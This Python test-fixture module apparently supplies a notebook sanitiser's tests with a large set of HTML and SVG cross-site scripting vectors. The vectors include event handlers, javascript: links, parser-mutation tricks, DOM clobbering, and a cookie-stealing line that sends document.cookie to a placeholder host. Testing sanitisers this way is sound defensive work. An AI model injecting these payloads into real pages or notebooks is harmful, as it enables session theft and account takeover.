"""HTML and SVG: what a sanitiser must take away and a policy must not run."""

# Payloads are data: their lines are as long as they are, in pieces that belong together.
# ruff: noqa: E501, ISC004

from __future__ import annotations

from tests.attacks.xss.payloads import Payload, Vector, numbered

HANDLERS: tuple[Vector, ...] = (
    ("script element", "<script>%JS%</script>"),
    ("script element in a comment", "<script><!--\n%JS%\n//--></script>"),
    ("script src data:", '<script src="data:text/javascript,%JS%"></script>'),
    ("script src elsewhere", '<script src="%URL%.js"></script>'),
    ("module script", '<script type="module">%JS%</script>'),
    (
        "import map",
        '<script type="importmap">{"imports":{"x":"data:text/javascript,%JS%"}}'
        '</script><script type="module">import "x"</script>',
    ),
    ("script in broken case", "<ScRiPt>%JS%</sCrIpT>"),
    ("script after slash", "<script/x>%JS%</script>"),
    ("script for requirejs", "<script>require(['base/js/ns'],()=>{});%JS%</script>"),
    ("img onerror", '<img src="x" onerror="%JS%">'),
    (
        "img onload data:",
        '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" '
        'onload="%JS%" onerror="%JS%">',
    ),
    ("img unquoted handler", "<img src=x onerror=%JS%>"),
    ("img slash separators", "<img/src=x/onerror=%JS%>"),
    ("img newline in handler", '<img src="x" onerror\n=\n"%JS%">'),
    ("img handler by references", '<img src="x" onerror="%ENT{%JS%}%">'),
    ("img in upper case", '<IMG SRC="x" ONERROR="%JS%">'),
    ("body onload", '<body onload="%JS%">'),
    ("body onpageshow", '<body onpageshow="%JS%"><p>x</p></body>'),
    ("video source onerror", '<video><source onerror="%JS%" src="x"></video>'),
    ("video poster and handler", '<video src="x" onerror="%JS%" poster="%URL%">'),
    ("audio onerror", '<audio src="x" onerror="%JS%"></audio>'),
    (
        "details ontoggle",
        '<details open ontoggle="%JS%"><summary>x</summary></details>',
    ),
    (
        "summary clicked",
        '<details ontoggle="%JS%"><summary>open me</summary>x</details>',
    ),
    ("input autofocus onfocus", '<input autofocus onfocus="%JS%">'),
    ("select autofocus onfocus", '<select autofocus onfocus="%JS%"><option>x</select>'),
    ("textarea autofocus", '<textarea autofocus onfocus="%JS%"></textarea>'),
    ("tabindex onfocus", '<p tabindex="0" autofocus onfocus="%JS%">x</p>'),
    ("button onclick", '<button onclick="%JS%">Show more</button>'),
    (
        "button formaction",
        '<form><button formaction="javascript:%JS%">Next</button></form>',
    ),
    (
        "form action javascript:",
        '<form action="javascript:%JS%"><input type="submit" value="Next"></form>',
    ),
    (
        "form posts elsewhere",
        '<form action="%URL%" method="post"><button>Next</button></form>',
    ),
    ("mouse over", '<p onmouseover="%JS%" onpointerenter="%JS%">a table</p>'),
    (
        "wheel and scroll",
        '<div onwheel="%JS%" onscroll="%JS%" style="overflow:auto;'
        'height:30px"><p style="height:99px">x</p></div>',
    ),
    ("marquee onstart", '<marquee onstart="%JS%">x</marquee>'),
    (
        "animation end",
        "<style>@keyframes k{from{color:red}}</style>"
        '<p style="animation:k 1ms" onanimationend="%JS%" onanimationstart="%JS%">x</p>',
    ),
    (
        "transition end",
        '<p style="transition:color 1ms" ontransitionrun="%JS%" '
        'ontransitionend="%JS%" tabindex=0>x</p>',
    ),
    ("link javascript:", '<a href="javascript:%JS%">a link</a>'),
    ("link javascript: with a tab", '<a href="java&#9;script:%JS%">a link</a>'),
    ("link javascript: with references", '<a href="%ENT{javascript:%JS%}%">a link</a>'),
    ("link javascript: with control", '<a href="\u0001javascript:%JS%">a link</a>'),
    (
        "link javascript: new tab",
        '<a target="_blank" href="javascript:opener.%JS%">a link</a>',
    ),
    ("link data:", '<a href="data:text/html,<script>%JS%</script>">a link</a>'),
    ("link vbscript:", '<a href="vbscript:%JS%">a link</a>'),
    ("link pings", '<a href="#x" ping="%URL%">a link</a>'),
    (
        "image map area",
        '<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="'
        ' width=80 height=20><map name="m"><area shape="default" href="javascript:%JS%">'
        "</map>",
    ),
    ("iframe srcdoc", '<iframe srcdoc="<script>%JS%</script>"></iframe>'),
    (
        "iframe srcdoc asks parent",
        '<iframe srcdoc="<script>parent.%JS%</script>"></iframe>',
    ),
    ("iframe javascript:", '<iframe src="javascript:parent.%JS%"></iframe>'),
    ("iframe data:", '<iframe src="data:text/html,<script>%JS%</script>"></iframe>'),
    ("iframe elsewhere", '<iframe src="%URL%"></iframe>'),
    ("iframe onload", '<iframe onload="%JS%"></iframe>'),
    (
        "iframe of the room's own files",
        '<iframe src="/user/room-abcdefghij/files/interview.ipynb" onload="%JS%"></iframe>',
    ),
    ("object data:", '<object data="data:text/html,<script>%JS%</script>"></object>'),
    ("object javascript:", '<object data="javascript:%JS%"></object>'),
    ("embed data:", '<embed src="data:text/html,<script>%JS%</script>">'),
    (
        "embed svg",
        '<embed type="image/svg+xml" '
        'src="data:image/svg+xml;base64,%B64{<svg xmlns="http://www.w3.org/2000/svg">'
        '<script>parent.%JS%</script></svg>}%">',
    ),
    ("frameset", '<frameset onload="%JS%"><frame src="javascript:%JS%"></frameset>'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=%URL%">'),
    (
        "meta refresh javascript:",
        '<meta http-equiv="refresh" content="0;url=javascript:%JS%">',
    ),
    (
        "meta sets a policy",
        '<meta http-equiv="Content-Security-Policy" content='
        '"script-src *"><script>%JS%</script>',
    ),
    ("base moves addresses", '<base href="%URL%/"><script src="a.js"></script>'),
    ("base javascript:", '<base href="javascript:/a/-%JS%//"><a href="#">a link</a>'),
    ("link stylesheet elsewhere", '<link rel="stylesheet" href="%URL%.css">'),
    (
        "link prefetch",
        '<link rel="prefetch" href="%URL%"><link rel="preload" '
        'as="script" href="%URL%">',
    ),
    ("link import handler", '<link rel="stylesheet" href="x" onerror="%JS%">'),
    ("style import", '<style>@import "%URL%";</style>'),
    ("style background asks", '<p style="background:url(%URL%)">x</p>'),
    (
        "style reads attributes",
        "<style>[value],body{background:url(%URL%)}</style><input value=a>",
    ),
    (
        "style font asks",
        "<style>@font-face{font-family:f;src:url(%URL%)}</style>"
        '<p style="font-family:f">x</p>',
    ),
    ("image pixel asks", '<img src="%URL%">'),
    ("image srcset asks", '<img srcset="%URL% 1x" src="">'),
    ("picture asks", '<picture><source srcset="%URL%"><img></picture>'),
    ("track asks", '<video controls><track default src="%URL%"></video>'),
    ("table background asks", '<table background="%URL%"><td>x</td></table>'),
    (
        "noscript mutation",
        '<noscript><p title="</noscript><img src=x onerror=%JS%>"></noscript>',
    ),
    (
        "template",
        "<template><img src=x onerror=%JS%></template>"
        '<template shadowrootmode="open"><img src=x onerror="%JS%"></template>',
    ),
    (
        "math namespace mutation",
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=%JS%&gt;">',
    ),
    (
        "form nesting mutation",
        "<form><math><mtext></form><form><mglyph><svg><mtext>"
        '<style><path id="</style><img onerror=%JS% src>">',
    ),
    (
        "svg style mutation",
        '<svg></p><style><a id="</style><img src=1 onerror=%JS%>">',
    ),
    ("title mutation", '<svg><title><a title="</title><img src=x onerror=%JS%>">'),
    (
        "textarea mutation",
        "<textarea><p title='</textarea><img src=x onerror=%JS%>'></textarea>",
    ),
    ("comment mutation", "<!--><img src=x onerror=%JS%>-->"),
    ("cdata mutation", "<svg><![CDATA[><image xlink:href=x onerror=%JS%>]]></svg>"),
    (
        "select mutation",
        "<select><template><img src=x onerror=%JS%></template></select>",
    ),
    (
        "math href",
        '<math><maction actiontype="statusline" href="javascript:%JS%">'
        "<mtext>a formula</mtext></maction></math>",
    ),
    ("math link", '<math href="javascript:%JS%"><mi>x</mi></math>'),
    (
        "xss in an id: clobbers",
        '<a id="jupyter-config-data" href="%URL%">x</a>'
        '<script id="jupyter-config-data">{"baseUrl":"%URL%"}</script>'
        '<form id="body" name="body"><input name="firstChild"></form>',
    ),
    (
        "clobbers document",
        '<img name="currentScript" src="%URL%"><a id="defaultView">'
        '<form name="getElementById"></form><a name="cookie" href="%URL%">',
    ),
    (
        "clobbers webpack's base",
        '<img name="currentScript" id="__webpack_public_path__"'
        ' src="%URL%/"><a id="document" href="%URL%">',
    ),
    (
        "portal and fenced frame",
        '<portal src="%URL%"></portal><fencedframe></fencedframe>',
    ),
    (
        "popover beforetoggle",
        '<button popovertarget="%ID%">Show</button>'
        '<div popover id="%ID%" onbeforetoggle="%JS%" ontoggle="%JS%">x</div>',
    ),
    (
        "command for dialog",
        '<button command="show-modal" commandfor="d-%ID%">Show</button>'
        '<dialog id="d-%ID%" oncommand="%JS%" ontoggle="%JS%">x</dialog>',
    ),
    (
        "content visibility",
        '<p style="content-visibility:auto" '
        'oncontentvisibilityautostatechange="%JS%">x</p>',
    ),
    ("is-attribute handler", '<button is="x-y" onpointerdown="%JS%">Show</button>'),
    ("hidden until found", '<p hidden="until-found" onbeforematch="%JS%">x</p>'),
    (
        "cookie is read",
        "<img src=x onerror=\"%JS%;new Image().src='%URL%?'+document.cookie\">",
    ),
    (
        "storage is written",
        "<img src=x onerror=\"localStorage.setItem('xss-%ID%', 1)\">",
    ),
    ("dialog opens", "<img src=x onerror=\"alert('xss-%ID%')\">"),
    (
        "worker from a blob",
        "<script>new Worker(URL.createObjectURL(new Blob(["
        "`fetch('%URL%')`])))</script>",
    ),
    ("eval of text", "<img src=x onerror=\"(0,eval)(`%JS%`);Function('%JS%')()\">"),
    (
        "server call by the page",
        "<img src=x onerror=\"fetch('/user/room-abcdefghij/api/"
        "contents').then(()=>%JS%)\">",
    ),
    (
        "angular-like template",
        "{{constructor.constructor('%JS%')()}}<p ng-app>${%JS%}</p>",
    ),
    ("null bytes", "<scr\x00ipt>%JS%</scr\x00ipt><img src=x on\x00error=%JS%>"),
    ("overlong html", "<p>" + "x" * 5000 + "</p><img src=x onerror=%JS%>"),
)

SVG: tuple[Vector, ...] = (
    ("svg onload", '<svg xmlns="http://www.w3.org/2000/svg" onload="%JS%"/>'),
    (
        "svg script",
        '<svg xmlns="http://www.w3.org/2000/svg"><script>%JS%</script></svg>',
    ),
    (
        "svg script href",
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink='
        '"http://www.w3.org/1999/xlink"><script xlink:href="data:text/javascript,%JS%"/>'
        "</svg>",
    ),
    (
        "svg foreignObject",
        '<svg xmlns="http://www.w3.org/2000/svg" width="90" height="40">'
        '<foreignObject width="90" height="40"><img xmlns="http://www.w3.org/1999/xhtml" '
        'src="x" onerror="%JS%"/></foreignObject></svg>',
    ),
    (
        "svg foreignObject iframe",
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>'
        '<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.%JS%'
        '&lt;/script&gt;"/></foreignObject></svg>',
    ),
    (
        "svg use data:",
        '<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/'
        'svg+xml;base64,%B64{<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" '
        'onerror="%JS%"/></svg>}%#x"/></svg>',
    ),
    (
        "svg use elsewhere",
        '<svg xmlns="http://www.w3.org/2000/svg"><use href="%URL%#x"/></svg>',
    ),
    (
        "svg image onerror",
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="%JS%"/></svg>',
    ),
    (
        "svg image asks",
        '<svg xmlns="http://www.w3.org/2000/svg"><image href="%URL%"/></svg>',
    ),
    (
        "svg feImage asks",
        '<svg xmlns="http://www.w3.org/2000/svg"><filter id="f">'
        '<feImage href="%URL%"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
    ),
    (
        "svg animate begins",
        '<svg xmlns="http://www.w3.org/2000/svg"><animate '
        'onbegin="%JS%" attributeName="x" dur="1s"/></svg>',
    ),
    (
        "svg set moves a link",
        '<svg xmlns="http://www.w3.org/2000/svg" width="90" '
        'height="30"><a><set attributeName="href" to="javascript:%JS%"/>'
        '<text y="20">a link</text></a></svg>',
    ),
    (
        "svg animate moves a link",
        '<svg xmlns="http://www.w3.org/2000/svg" width="90" '
        'height="30"><a href="#"><animate attributeName="href" values="javascript:%JS%"/>'
        '<text y="20">a link</text></a></svg>',
    ),
    (
        "svg xlink",
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink='
        '"http://www.w3.org/1999/xlink" width="90" height="30"><a xlink:href="javascript:'
        '%JS%"><text y="20">a link</text></a></svg>',
    ),
    (
        "svg handler clicked",
        '<svg xmlns="http://www.w3.org/2000/svg" width="90" '
        'height="30"><rect width="90" height="30" onclick="%JS%" onmouseover="%JS%"/></svg>',
    ),
    (
        "svg focus",
        '<svg xmlns="http://www.w3.org/2000/svg"><g tabindex="0" autofocus="" '
        'onfocus="%JS%" onfocusin="%JS%"><rect width="9" height="9"/></g></svg>',
    ),
    (
        "svg stylesheet instruction",
        '<?xml-stylesheet href="%URL%" type="text/xsl"?>'
        '<svg xmlns="http://www.w3.org/2000/svg"/>',
    ),
    (
        "svg entity",
        '<!DOCTYPE svg [<!ENTITY x "&lt;script&gt;%JS%&lt;/script&gt;">]>'
        '<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    ),
    (
        "svg style asks",
        '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "%URL%";'
        "rect{fill:url(%URL%#a)}</style><rect width='9' height='9'/></svg>",
    ),
    (
        "svg handler element",
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:ev='
        '"http://www.w3.org/2001/xml-events"><handler ev:event="load">%JS%</handler></svg>',
    ),
    (
        "svg discard and switch",
        '<svg xmlns="http://www.w3.org/2000/svg"><switch>'
        '<foreignObject requiredExtensions="http://www.w3.org/1999/xhtml"><body xmlns='
        '"http://www.w3.org/1999/xhtml" onload="%JS%"/></foreignObject></switch></svg>',
    ),
    (
        "svg breaks out of a data: address",
        '"><img src=x onerror=%JS%><svg xmlns="http://www.w3.org/2000/svg"/>',
    ),
)

SHOWN_AS = ("isolated", True)
"""JupyterLab shows output with this metadata in a frame of its own."""


def payloads() -> list[Payload]:
    """Return every vector as an output of a run and as one written by a page."""
    html = [(name, {"data": {"text/html": text}}) for name, text in HANDLERS]
    svg = [(name, {"data": {"image/svg+xml": text}}) for name, text in SVG]
    inline = [
        (f"{name}, within HTML", {"data": {"text/html": text}}) for name, text in SVG
    ]
    isolated = [
        (
            f"{name}, isolated",
            {
                "data": {"text/html": text},
                "metadata": {"text/html": dict([SHOWN_AS]), **dict([SHOWN_AS])},
            },
        )
        for name, text in HANDLERS[:10]
    ]
    return [
        *numbered("html-run", "kernel", "text/html", html),
        *numbered("html-write", "document", "text/html", html),
        *numbered("svg-run", "kernel", "image/svg+xml", svg),
        *numbered("svg-write", "document", "image/svg+xml", svg),
        *numbered("svg-html", "document", "text/html", inline),
        *numbered("isolated", "document", "text/html", isolated),
    ]
